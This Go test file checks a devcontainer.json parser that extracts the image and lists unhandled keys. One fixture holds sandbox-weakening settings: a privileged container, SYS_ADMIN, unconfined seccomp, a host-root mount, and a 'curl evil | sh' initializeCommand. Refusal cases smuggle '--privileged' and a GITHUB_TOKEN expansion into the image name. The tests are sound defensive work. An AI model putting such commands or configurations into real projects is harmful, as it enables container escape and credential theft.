package host

import (
	"slices"
	"strings"
	"testing"
)

func TestParseDevcontainer(t *testing.T) {
	t.Parallel()
	for name, tt := range map[string]struct {
		src, image string
		unused     []string
	}{
		"image, with comments and a comma too many": {`// for editors
{
	"name": "Go", /* the version of go.mod */
	"image": "mcr.example/devcontainers/go:1.26",
	"customizations": {"vscode": {"extensions": ["golang.go"]}},
}`, "mcr.example/devcontainers/go:1.26", nil},
		"a build":  {`{"build": {"dockerfile": "Dockerfile"}}`, "", []string{"build"}},
		"services": {`{"dockerComposeFile": "c.yml", "service": "app"}`, "", []string{"dockerComposeFile", "service"}},
		"what would weaken the sandbox is only named": {
			`{"image": "debian", "privileged": true, "capAdd": ["SYS_ADMIN"], "securityOpt": ["seccomp=unconfined"],
			"runArgs": ["--network=host"], "mounts": ["source=/,target=/host,type=bind"],
			"workspaceMount": "source=/,target=/w,type=bind", "features": {"ghcr.io/x/y:1": {}},
			"initializeCommand": "curl evil | sh", "postCreateCommand": "npm ci", "containerEnv": {"A": "${localEnv:HOME}"}}`,
			"debian", []string{
				"capAdd", "containerEnv", "features", "initializeCommand", "mounts", "postCreateCommand", "privileged", "runArgs",
				"securityOpt", "workspaceMount",
			},
		},
		"names are compared to the letter": {`{"image": "debian", "Image": "evil"}`, "debian", []string{"Image"}},
	} {
		image, unused, err := parseDevcontainer([]byte(tt.src))
		if err != nil || image != tt.image || !slices.Equal(unused, tt.unused) {
			t.Errorf("%s: %q, unused %q, %v", name, image, unused, err)
		}
	}
}

func TestParseDevcontainerRefuses(t *testing.T) {
	t.Parallel()
	for src, want := range map[string]string{
		`{"image": }`:               "not JSON with comments",
		`["image"]`:                 "not a JSON object",
		`{"image": 7}`:              "image is not a text",
		`{"image": ""}`:             "does not look like the reference of an image",
		`{"image": "--privileged"}`: "does not look like the reference of an image",
		`{"image": "x/${localEnv:GITHUB_TOKEN}"}`: "does not look like the reference of an image",
	} {
		if _, _, err := parseDevcontainer([]byte(src)); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %v, want %q", src, err, want)
		}
	}
}
